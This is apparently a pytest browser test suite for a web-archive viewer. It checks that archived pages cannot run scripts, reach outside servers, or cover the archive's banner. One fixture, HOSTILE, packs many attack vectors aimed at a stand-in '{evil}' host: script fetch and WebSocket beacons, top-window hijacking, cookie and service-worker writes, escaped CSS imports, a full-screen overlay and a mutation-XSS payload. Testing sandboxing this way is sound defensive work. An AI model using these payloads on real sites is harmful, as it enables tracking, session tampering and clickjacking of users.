"""In a real browser: an archived page that wants to run, to reach out and to pose runs nothing, reaches
nothing and leaves its banner alone. Twice: as it is made harmless, and with only the policy to hold it.
"""

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest

from browse.snapshots import showing

BANNER = ".banner"
HOSTILE = """<!doctype html><html><head><title>x</title>
<base href="{evil}/base/">
<meta http-equiv="refresh" content="0;url={evil}/refresh">
<link rel="stylesheet" href="{evil}/sheet.css">
<link rel="preload" as="image" href="{evil}/preload">
<link rel="dns-prefetch" href="{evil}">
<link rel="icon" href="{evil}/icon"><link rel="manifest" href="{evil}/m">
<style>@import "{evil}/import.css";
@\\69mport "{evil}/escaped.css"; body {{ background: url({evil}/back.png) }}
@font-face {{ font-family: f; src: url({evil}/font) }} * {{ font-family: f }}
#cover {{ position: fixed; inset: -9999px; z-index: 2147483647; background: #fff }}</style>
<script>window.ran = 1; fetch("{evil}/fetch"); navigator.serviceWorker.register("/sw.js");
  new WebSocket("{evil}".replace("http", "ws")); top.location = "{evil}/top"; alert(1);
  parent.document.body.innerHTML = ""; document.cookie = "a=b"; localStorage.a = 1;</script></head>
<body onload="fetch('{evil}/onload')">
<div id="cover">live, trust me</div>
<img src="{evil}/img" onerror="fetch('{evil}/onerror')" srcset="{evil}/set 2x">
<iframe src="{evil}/frame"></iframe>
<iframe srcdoc="<script>fetch('{evil}/srcdoc')</script><img src='{evil}/inner'>"></iframe>
<svg onload="fetch('{evil}/svg')">
<script>fetch("{evil}/svg-script")</script><image href="{evil}/svg-image"/></svg>
<object data="{evil}/object"></object><embed src="{evil}/embed">
<video src="{evil}/video" autoplay></video>
<form id="f" action="{evil}/form" method="post"><button id="send" autofocus>x</button></form>
<a id="out" href="{evil}/link" target="_top" ping="{evil}/ping">out</a>
<table background="{evil}/table"><tr><td style="background: url({evil}/cell)">1</td></tr></table>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={evil}/mutated&gt;">
</body></html>"""


@pytest.fixture(scope="module")
def evil():
    """A server of the outside world, and what was asked of it."""
    asked = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - the names that http.server calls

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


def only_decoded(body, _archive, _place=""):
    return showing.decode(body).text


@pytest.mark.parametrize("first_hand", ["harmless", "the policy alone"])
def test_nothing_runs_nothing_leaves_nothing_covers(doors, keep, page, evil, first_hand, monkeypatch):
    address, asked = evil
    if first_hand != "harmless":
        monkeypatch.setattr(showing, "harmless", only_decoded)
    capture_id = keep.put(f"http://www.a.gov.cn/{first_hand}", HOSTILE.format(evil=address).encode())
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"{doors.pages}/captures/{capture_id}/page")
    page.wait_for_load_state("networkidle")
    inner = page.frames[1]
    box = page.locator(BANNER).bounding_box()
    assert box["y"] >= 0
    assert page.locator("iframe").bounding_box()["y"] >= box["y"] + box["height"] - 1
    at_banner = f"() => document.elementFromPoint(300, {box['y'] + 8}).closest('{BANNER}') !== null"
    assert page.evaluate(at_banner)
    assert inner.locator("#send").count() == 1
    inner.locator("#send").click(force=True)
    page.wait_for_load_state("networkidle")
    assert page.url == f"{doors.pages}/captures/{capture_id}/page"
    assert inner.url.startswith(doors.snapshots)
    assert inner.evaluate("() => window.ran") is None
    assert asked == []
    assert dialogs == []
    assert page.context.service_workers == []
    assert page.context.cookies() == []


def test_a_link_leads_to_the_archive_under_its_banner(doors, keep, page):
    target = keep.put("http://www.a.gov.cn/b.html", b"<p>b")
    start = keep.put("http://www.a.gov.cn/a.html", b'<a id="on" href="b.html">on</a>')
    page.goto(f"{doors.pages}/captures/{start}/page")
    page.frame_locator("iframe").locator("#on").click()
    page.wait_for_url(f"{doors.pages}/captures/{target}/page")
    assert page.frame_locator("iframe").locator("p").inner_text() == "b"


def test_pictures_and_styles_come_from_the_archive(doors, keep, page):
    keep.put("http://www.a.gov.cn/c.css", b"p{background:url(dot.bmp);color:rgb(1,2,3)}", "text/css")
    dot = b"BM" + (58).to_bytes(4, "little") + bytes(4) + (54).to_bytes(4, "little")
    dot += (40).to_bytes(4, "little") + (1).to_bytes(4, "little") * 2 + (1).to_bytes(2, "little")
    dot += (24).to_bytes(2, "little") + bytes(24) + bytes(4)
    keep.put("http://www.a.gov.cn/dot.bmp", dot, "image/bmp")
    body = b'<link rel="stylesheet" href="/c.css"><p>c</p><img src="/dot.bmp"><img src="/lost.png">'
    capture_id = keep.put("http://www.a.gov.cn/c.html", body)
    page.goto(f"{doors.pages}/captures/{capture_id}/page")
    inner = page.frame_locator("iframe")
    assert inner.locator("p").evaluate("e => getComputedStyle(e).color") == "rgb(1, 2, 3)"
    assert inner.locator("img").first.evaluate("e => e.naturalWidth") == 1


def test_alone_in_a_window_an_archived_page_gets_its_banner(doors, keep, page):
    capture_id = keep.put("http://www.a.gov.cn/d.html", b"<p>d")
    page.goto(f"{doors.snapshots}/capture/{capture_id}")
    assert page.url == f"{doors.pages}/captures/{capture_id}/page"
    assert page.locator(BANNER).is_visible()


def test_a_page_of_100_megabytes_is_met_within_bounds(doors, keep, page):
    capture_id = keep.put("http://www.a.gov.cn/large.html", b"<p>" + b"x" * 100_000_000)
    page.goto(f"{doors.pages}/captures/{capture_id}/page")
    assert "can be downloaded" in page.frame_locator("iframe").locator("body").inner_text()
